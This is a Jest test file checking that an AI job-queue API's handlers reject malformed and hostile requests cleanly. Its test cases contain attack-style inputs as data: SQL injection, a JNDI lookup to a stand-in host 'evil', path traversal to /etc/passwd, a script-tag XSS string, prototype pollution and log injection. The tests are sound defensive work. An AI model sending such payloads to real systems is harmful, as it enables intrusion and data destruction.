/**
 * Bad input, through the handlers with API Gateway proxy events against local SQS/DynamoDB/S3: every case
 * gets its status code and error code, the `{ error: { code, message } }` shape with no stack or internal
 * name, and leaves the queues, the table and the bucket exactly as empty as they were.
 */
import { LambdaClient } from '@aws-sdk/client-lambda';
import { CloudWatchClient, GetMetricDataCommand } from '@aws-sdk/client-cloudwatch';
import { mockClient } from 'aws-sdk-client-mock';
import type { APIGatewayProxyEvent } from 'aws-lambda';
import { ApiConfig } from '../../lib/contracts';
import {
  apiEvent,
  freshConfig,
  harness,
  Harness,
  jobEvent,
  LocalAws,
  objectCount,
  parse,
  postJob,
  startLocalAws,
  tableItems,
  totalDepth,
} from './api-env';

let aws: LocalAws;
let h: Harness;
let config: ApiConfig;
const lambda = new LambdaClient({ region: 'us-east-1' });
const cloudWatch = new CloudWatchClient({ region: 'us-east-1' });
const lambdaMock = mockClient(lambda);
const cloudWatchMock = mockClient(cloudWatch);

beforeAll(async () => {
  aws = await startLocalAws();
  const fresh = await freshConfig(aws, { budgets: { dailyLimitsUsd: { spender: 1 }, cacheSeconds: 60, metricNamespace: 'AiBurst' } });
  config = fresh.config;
  h = harness(aws, config, fresh.tableName, { lambda, cloudWatch });
});
afterAll(async () => {
  await aws.close();
});

const ok = { workload: 'agents', agent: 'planner', payload: { prompt: 'hi' } };
const json = { 'Content-Type': 'application/json' };
const UUID = '0f8fad5b-d9cb-469f-a165-70867728950e';

type Case = [name: string, event: () => APIGatewayProxyEvent, status: number, code: string];

const submitCases: Case[] = [
  // malformed JSON / body shape
  ['malformed JSON', () => postJob('{"workload": "agents", '), 400, 'INVALID_JSON'],
  ['empty body', () => postJob(''), 400, 'INVALID_JSON'],
  ['whitespace body', () => postJob('   \n'), 400, 'INVALID_JSON'],
  ['trailing garbage after JSON', () => postJob('{"workload":"agents"} x'), 400, 'INVALID_JSON'],
  [
    'base64 body that is not JSON',
    () =>
      apiEvent({
        method: 'POST',
        resource: '/jobs',
        path: '/jobs',
        headers: json,
        body: Buffer.from('nope').toString('base64'),
        isBase64Encoded: true,
      }),
    400,
    'INVALID_JSON',
  ],
  ['body is an array', () => postJob([ok]), 400, 'INVALID_REQUEST'],
  ['body is a string', () => postJob('"agents"'), 400, 'INVALID_REQUEST'],
  ['body is null', () => postJob('null'), 400, 'INVALID_REQUEST'],
  // content type
  ['wrong content type', () => postJob(ok, { 'Content-Type': 'text/plain' }), 415, 'UNSUPPORTED_MEDIA_TYPE'],
  ['form content type', () => postJob(ok, { 'content-type': 'application/x-www-form-urlencoded' }), 415, 'UNSUPPORTED_MEDIA_TYPE'],
  ['no content type', () => postJob(ok, {}), 415, 'UNSUPPORTED_MEDIA_TYPE'],
  ['JSON with a non-UTF-8 charset', () => postJob(ok, { 'Content-Type': 'application/json; charset=latin1' }), 415, 'UNSUPPORTED_MEDIA_TYPE'],
  // missing / unknown / empty fields
  ['missing workload', () => postJob({ agent: 'planner', payload: 1 }), 400, 'INVALID_REQUEST'],
  ['missing agent', () => postJob({ workload: 'agents', payload: 1 }), 400, 'INVALID_REQUEST'],
  ['missing payload', () => postJob({ workload: 'agents', agent: 'planner' }), 400, 'INVALID_REQUEST'],
  ['unknown field', () => postJob({ ...ok, callbackUrl: 'http://x' }), 400, 'INVALID_REQUEST'],
  ['internal field smuggled in', () => postJob({ ...ok, status: 'SUCCEEDED' }), 400, 'INVALID_REQUEST'],
  ['__proto__ field', () => postJob('{"workload":"agents","agent":"planner","payload":1,"__proto__":{"admin":true}}'), 400, 'INVALID_REQUEST'],
  ['empty workload', () => postJob({ ...ok, workload: '' }), 400, 'INVALID_REQUEST'],
  ['empty agent', () => postJob({ ...ok, agent: '' }), 400, 'INVALID_REQUEST'],
  ['empty model', () => postJob({ ...ok, model: '' }), 400, 'INVALID_REQUEST'],
  ['empty payload string', () => postJob({ ...ok, payload: '' }), 400, 'INVALID_REQUEST'],
  ['null payload', () => postJob({ ...ok, payload: null }), 400, 'INVALID_REQUEST'],
  ['null agent', () => postJob({ ...ok, agent: null }), 400, 'INVALID_REQUEST'],
  ['payload and payloadUpload', () => postJob({ ...ok, payloadUpload: true }), 400, 'INVALID_REQUEST'],
  ['payload and uploadId', () => postJob({ ...ok, uploadId: `agents.${UUID}` }), 400, 'INVALID_REQUEST'],
  // wrong types
  ['workload is a number', () => postJob({ ...ok, workload: 7 }), 400, 'INVALID_REQUEST'],
  ['agent is a number', () => postJob({ ...ok, agent: 42 }), 400, 'INVALID_REQUEST'],
  ['agent is an object', () => postJob({ ...ok, agent: { name: 'x' } }), 400, 'INVALID_REQUEST'],
  ['model is an array', () => postJob({ ...ok, model: ['a'] }), 400, 'INVALID_REQUEST'],
  ['priority is a number', () => postJob({ ...ok, priority: 1 }), 400, 'INVALID_REQUEST'],
  ['payloadUpload is a string', () => postJob({ workload: 'agents', agent: 'planner', payloadUpload: 'yes' }), 400, 'INVALID_REQUEST'],
  ['payloadUpload is false', () => postJob({ workload: 'agents', agent: 'planner', payloadUpload: false }), 400, 'INVALID_REQUEST'],
  ['idempotencyKey is a number', () => postJob({ ...ok, idempotencyKey: 5 }), 400, 'INVALID_REQUEST'],
  ['uploadId of another workload', () => postJob({ workload: 'agents', agent: 'planner', uploadId: `batch.${UUID}` }), 400, 'INVALID_REQUEST'],
  ['uploadId malformed', () => postJob({ workload: 'agents', agent: 'planner', uploadId: '../payloads/x' }), 400, 'INVALID_REQUEST'],
  // workload and priority
  ['unknown workload', () => postJob({ ...ok, workload: 'video' }), 400, 'UNKNOWN_WORKLOAD'],
  ['workload named like an Object property', () => postJob({ ...ok, workload: 'constructor' }), 400, 'UNKNOWN_WORKLOAD'],
  ['workload with an upper-case letter', () => postJob({ ...ok, workload: 'Agents' }), 400, 'UNKNOWN_WORKLOAD'],
  ['invalid priority', () => postJob({ ...ok, priority: 'urgent' }), 400, 'INVALID_PRIORITY'],
  ['priority of another workload only', () => postJob({ ...ok, workload: 'batch', priority: 'high' }), 400, 'INVALID_PRIORITY'],
  // sizes
  ['oversize body', () => postJob({ ...ok, payload: 'x'.repeat(5000) }), 413, 'PAYLOAD_TOO_LARGE'],
  ['oversize body of multi-byte characters', () => postJob({ ...ok, payload: 'é'.repeat(2100) }), 413, 'PAYLOAD_TOO_LARGE'],
  ['oversize idempotency key', () => postJob({ ...ok, idempotencyKey: 'k'.repeat(129) }), 400, 'INVALID_REQUEST'],
  ['empty idempotency key', () => postJob({ ...ok, idempotencyKey: '' }), 400, 'INVALID_REQUEST'],
  // unicode and control characters in names
  ['Cyrillic agent', () => postJob({ ...ok, agent: 'агент' }), 400, 'INVALID_REQUEST'],
  ['emoji agent', () => postJob({ ...ok, agent: 'bot🤖' }), 400, 'INVALID_REQUEST'],
  ['NUL in agent', () => postJob({ ...ok, agent: 'plan\u0000ner' }), 400, 'INVALID_REQUEST'],
  ['newline in agent (log injection)', () => postJob({ ...ok, agent: 'planner\n{"level":"ERROR"}' }), 400, 'INVALID_REQUEST'],
  ['right-to-left override in model', () => postJob({ ...ok, model: 'llama\u202Egnp.exe' }), 400, 'INVALID_REQUEST'],
  ['zero-width space in workload', () => postJob({ ...ok, workload: 'agents\u200B' }), 400, 'UNKNOWN_WORKLOAD'],
  ['control character in idempotency key', () => postJob({ ...ok, idempotencyKey: 'key\u0007' }), 400, 'INVALID_REQUEST'],
  ['non-ASCII idempotency key', () => postJob({ ...ok, idempotencyKey: 'clé' }), 400, 'INVALID_REQUEST'],
  [
    'unpaired surrogate in the payload',
    () => postJob('{"workload":"agents","agent":"planner","payload":{"text":"a\\ud800b"}}'),
    400,
    'INVALID_REQUEST',
  ],
  [
    'integer beyond 2^53 in the payload',
    () => postJob('{"workload":"agents","agent":"planner","payload":{"id":123456789012345678901}}'),
    400,
    'INVALID_REQUEST',
  ],
  [
    'number overflowing to Infinity in the payload',
    () => postJob('{"workload":"agents","agent":"planner","payload":[1e400]}'),
    400,
    'INVALID_REQUEST',
  ],
  [
    'payload nested 40 levels deep',
    () => postJob(`{"workload":"agents","agent":"planner","payload":${'['.repeat(40)}${']'.repeat(40)}}`),
    400,
    'INVALID_REQUEST',
  ],
  ['empty key in the payload', () => postJob({ ...ok, payload: { '': 1 } }), 400, 'INVALID_REQUEST'],
  // injection-looking strings
  ['SQL in agent', () => postJob({ ...ok, agent: "x'; DROP TABLE jobs;--" }), 400, 'INVALID_REQUEST'],
  ['JNDI in agent', () => postJob({ ...ok, agent: '${jndi:ldap://evil/a}' }), 400, 'INVALID_REQUEST'],
  ['path traversal in model', () => postJob({ ...ok, model: '../../etc/passwd' }), 400, 'INVALID_REQUEST'],
  ['DynamoDB expression in workload', () => postJob({ ...ok, workload: 'agents OR attribute_exists(jobId)' }), 400, 'UNKNOWN_WORKLOAD'],
  ['script tag in idempotency key', () => postJob({ ...ok, idempotencyKey: '<script>alert(1)</script>' }), 400, 'INVALID_REQUEST'],
  // budget: over → 429, nothing queued
  ['agent over its daily budget', () => postJob({ ...ok, agent: 'spender' }), 429, 'BUDGET_EXCEEDED'],
];

const statusCases: Case[] = [
  ['unknown job id (GET)', () => jobEvent('GET', `agents.${UUID}`), 404, 'JOB_NOT_FOUND'],
  ['unknown job id (result)', () => jobEvent('GET', `agents.${UUID}`, true), 404, 'JOB_NOT_FOUND'],
  ['unknown job id (DELETE)', () => jobEvent('DELETE', `agents.${UUID}`), 404, 'JOB_NOT_FOUND'],
  ['job id of a workload this API does not serve', () => jobEvent('GET', `video.${UUID}`), 404, 'JOB_NOT_FOUND'],
  ['malformed job id', () => jobEvent('GET', 'not-a-job'), 400, 'INVALID_JOB_ID'],
  ['job id with an upper-case UUID', () => jobEvent('GET', `agents.${UUID.toUpperCase()}`), 400, 'INVALID_JOB_ID'],
  ['path traversal as job id', () => jobEvent('GET', '../../etc/passwd'), 400, 'INVALID_JOB_ID'],
  ['idempotency item key as job id', () => jobEvent('GET', `agents.idem.${'a'.repeat(64)}`), 400, 'INVALID_JOB_ID'],
  ['job id with a trailing newline', () => jobEvent('DELETE', `agents.${UUID}\n`), 400, 'INVALID_JOB_ID'],
  ['empty job id', () => jobEvent('GET', ''), 400, 'INVALID_JOB_ID'],
  [
    'unknown route',
    () => apiEvent({ method: 'PATCH', resource: '/jobs/{id}', path: `/jobs/agents.${UUID}`, pathParameters: { id: `agents.${UUID}` } }),
    404,
    'ROUTE_NOT_FOUND',
  ],
];

/** `name → status CODE` as the test title. */
function titled(cases: Case[]): Case[] {
  return cases.map(([n, e, s, c]) => [`${n} → ${s} ${c}`, e, s, c]);
}

beforeEach(() => {
  lambdaMock.reset();
  cloudWatchMock.reset();
  cloudWatchMock.on(GetMetricDataCommand).resolves({
    MetricDataResults: [
      { Id: 'w0', Values: [2.5] },
      { Id: 'w1', Values: [] },
    ],
  });
});

async function expectNothingChanged(): Promise<void> {
  expect(await totalDepth(aws, config)).toBe(0);
  expect(await tableItems(aws, h.tableName)).toEqual([]);
  expect(await objectCount(aws)).toBe(0);
  expect(lambdaMock.calls()).toHaveLength(0);
}

function expectErrorBody(body: string, code: string): void {
  const parsed = parse(body);
  expect(parsed).toEqual({ error: { code, message: expect.any(String) } });
  expect(parsed.error.message.length).toBeGreaterThan(10);
  // No stack traces, SDK error names or internal resource names.
  expect(body).not.toMatch(/\n\s+at |Exception|arn:aws|jobs-\d+|q-\d+|127\.0\.0\.1|job-data/);
}

describe('POST /jobs refuses bad input and enqueues or writes nothing', () => {
  test.each(titled(submitCases))('%s', async (_name, event, status, code) => {
    // WHEN
    const r = await h.submit(event());
    // THEN
    expect({ status: r.statusCode, code: parse(r.body).error?.code }).toEqual({ status, code });
    expectErrorBody(r.body, code);
    expect(r.headers?.['content-type']).toBe('application/json');
    await expectNothingChanged();
  });

  test('the budget answer names the agent, the spend and the limit, and says when it resets', async () => {
    const r = await h.submit(postJob({ ...ok, agent: 'spender' }));
    expect(r.statusCode).toBe(429);
    expect(parse(r.body).error.message).toMatch(/agent "spender" has spent \$2\.50 today \(UTC\) of its daily budget of \$1\.00; nothing was queued/);
    expect(Number(r.headers?.['Retry-After'])).toBeGreaterThan(0);
    await expectNothingChanged();
  });
});

describe('job routes refuse bad ids and change nothing', () => {
  test.each(titled(statusCases))('%s', async (_name, event, status, code) => {
    const r = await h.status(event());
    expect({ status: r.statusCode, code: parse(r.body).error?.code }).toEqual({ status, code });
    expectErrorBody(r.body, code);
    await expectNothingChanged();
  });
});

test('the cases cover every kind of bad input the issue lists', () => {
  const names = [...submitCases, ...statusCases].map(([n]) => n.toLowerCase()).join(' | ');
  for (const kind of [
    'malformed json',
    'content type',
    'missing',
    'unknown field',
    'empty',
    'is a number',
    'unknown workload',
    'invalid priority',
    'oversize body',
    'oversize idempotency key',
    'cyrillic',
    'control character',
    'sql',
    'unknown job id',
    'malformed job id',
  ]) {
    expect(names).toContain(kind);
  }
});
